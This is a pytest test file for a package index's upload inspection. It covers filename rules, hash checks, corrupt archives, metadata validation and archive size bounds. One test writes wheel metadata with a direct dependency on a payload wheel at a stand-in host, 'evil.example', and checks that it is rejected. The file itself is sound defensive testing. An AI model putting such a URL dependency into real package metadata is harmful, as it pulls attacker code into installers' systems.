"""Reading one file as an upload is checked: hashes, archive, core metadata."""

from __future__ import annotations

import hashlib
import io
import zipfile
from pathlib import Path

import pytest

from benchmarks.simple_data import sdist, wheel
from tufpi.importer.inspect import Rejection, inspect_file, parse_filename
from tufpi.importer.model import SkipReason
from tufpi.index.archive import Bounds
from tufpi.index.names import DistFilename
from tufpi.index.upload import InspectedDist


def dist_at(tmp_path: Path, filename: str, content: bytes) -> tuple[Path, DistFilename]:
    path = tmp_path / filename
    path.write_bytes(content)
    parsed = parse_filename(filename)
    assert isinstance(parsed, DistFilename)
    return path, parsed


@pytest.mark.parametrize(
    ("filename", "reason"),
    [
        ("README.txt", SkipReason.NOT_A_DISTRIBUTION),
        ("demo-1.0.egg", SkipReason.NOT_A_DISTRIBUTION),
        ("demo-1.0.tar.bz2", SkipReason.NOT_A_DISTRIBUTION),
        ("demo.whl", SkipReason.BAD_FILENAME),
        ("demo-not_a_version.tar.gz", SkipReason.BAD_FILENAME),
        (".hidden-1.0.tar.gz", SkipReason.BAD_FILENAME),
        ("demo-1.0-" + "py3" * 20 + "-none-any.whl", SkipReason.BAD_FILENAME),
    ],
)
def test_filenames_refused(filename: str, reason: SkipReason) -> None:
    result = parse_filename(filename)
    assert isinstance(result, Rejection)
    assert result.reason == reason


@pytest.mark.parametrize("make", [wheel, sdist])
def test_a_good_distribution(tmp_path: Path, make: object) -> None:
    d = make("demo-proj", "2.1")  # type: ignore[operator]
    path, parsed = dist_at(tmp_path, d.filename, d.content)
    result = inspect_file(path, parsed, ("sha256", d.sha256.upper()))
    assert isinstance(result, InspectedDist)
    digests = result.staged.digests
    assert digests.size == len(d.content)
    assert digests.sha256 == d.sha256
    assert digests.sha512 == hashlib.sha512(d.content).hexdigest()
    assert digests.md5 == hashlib.md5(d.content, usedforsecurity=False).hexdigest()
    assert digests.blake2_256 == hashlib.blake2b(d.content, digest_size=32).hexdigest()
    assert result.metadata == d.metadata
    assert result.fields["name"] == "demo-proj"
    assert result.requires_python == ">=3.8"


def rejection(tmp_path: Path, filename: str, content: bytes, expected: object = None) -> Rejection:
    path, parsed = dist_at(tmp_path, filename, content)
    result = inspect_file(path, parsed, expected)  # type: ignore[arg-type]
    assert isinstance(result, Rejection)
    return result


def test_hash_mismatch(tmp_path: Path) -> None:
    d = wheel("demo", "1.0")
    assert rejection(tmp_path, d.filename, d.content, ("sha256", "00" * 32)).reason == (
        SkipReason.HASH_MISMATCH
    )
    # Another algorithm the page may name, and one hashlib does not know.
    good_sha1 = hashlib.sha1(d.content, usedforsecurity=False).hexdigest()
    path, parsed = dist_at(tmp_path, d.filename, d.content)
    assert isinstance(inspect_file(path, parsed, ("sha1", good_sha1)), InspectedDist)
    assert rejection(tmp_path, d.filename, d.content, ("nohash", "00")).reason == (
        SkipReason.HASH_MISMATCH
    )


def test_corrupt_and_empty_archives(tmp_path: Path) -> None:
    d = wheel("demo", "1.0")
    truncated = rejection(tmp_path, d.filename, d.content[:100])
    assert truncated.reason == SkipReason.CORRUPT_ARCHIVE
    assert rejection(tmp_path, "demo-1.0.tar.gz", b"").reason == SkipReason.CORRUPT_ARCHIVE
    assert rejection(tmp_path, "demo-1.0.tar.gz", b"\x1f\x8bxx").reason == (
        SkipReason.CORRUPT_ARCHIVE
    )


def test_missing_and_invalid_metadata(tmp_path: Path) -> None:
    other = sdist("demo", "1.0")
    # A readable wheel without METADATA; an sdist whose metadata names another project.
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as z:
        z.writestr("demo-1.0.dist-info/WHEEL", b"Wheel-Version: 1.0\n")
    missing = rejection(tmp_path, "demo-1.0-py3-none-any.whl", buf.getvalue())
    assert missing.reason == SkipReason.MISSING_METADATA
    wrong_name = rejection(tmp_path, "other-1.0.tar.gz", other.content)
    assert wrong_name.reason == SkipReason.INVALID_METADATA
    assert "demo" in wrong_name.detail


def test_archives_past_a_bound_are_skipped_naming_it(tmp_path: Path) -> None:
    # An import reads with the same bounds as an upload (here, the member bound lowered).
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as z:
        z.writestr("demo-1.0.dist-info/METADATA", b"Metadata-Version: 2.1\nName: demo\n")
        for i in range(10):
            z.writestr(f"demo/m{i}.py", b"")
    path, parsed = dist_at(tmp_path, "demo-1.0-py3-none-any.whl", buf.getvalue())
    result = inspect_file(path, parsed, None, Bounds(members=10))
    assert isinstance(result, Rejection)
    assert result.reason == SkipReason.TOO_COSTLY
    assert "limit: 10 archive members" in result.detail


def test_a_requirement_on_a_url_is_skipped_naming_it(tmp_path: Path) -> None:
    # The upload API refuses it (PyPI's rule); an import follows the same rule.
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as z:
        z.writestr(
            "demo-1.0.dist-info/METADATA",
            b"Metadata-Version: 2.1\nName: demo\nVersion: 1.0\n"
            b"Requires-Dist: payload @ http://evil.example/payload-1.0-py3-none-any.whl\n\n",
        )
    path, parsed = dist_at(tmp_path, "demo-1.0-py3-none-any.whl", buf.getvalue())
    result = inspect_file(path, parsed, None)
    assert isinstance(result, Rejection)
    assert result.reason == SkipReason.INVALID_METADATA
    assert (
        "Can't have direct dependency: "
        "'payload @ http://evil.example/payload-1.0-py3-none-any.whl'" in result.detail
    )
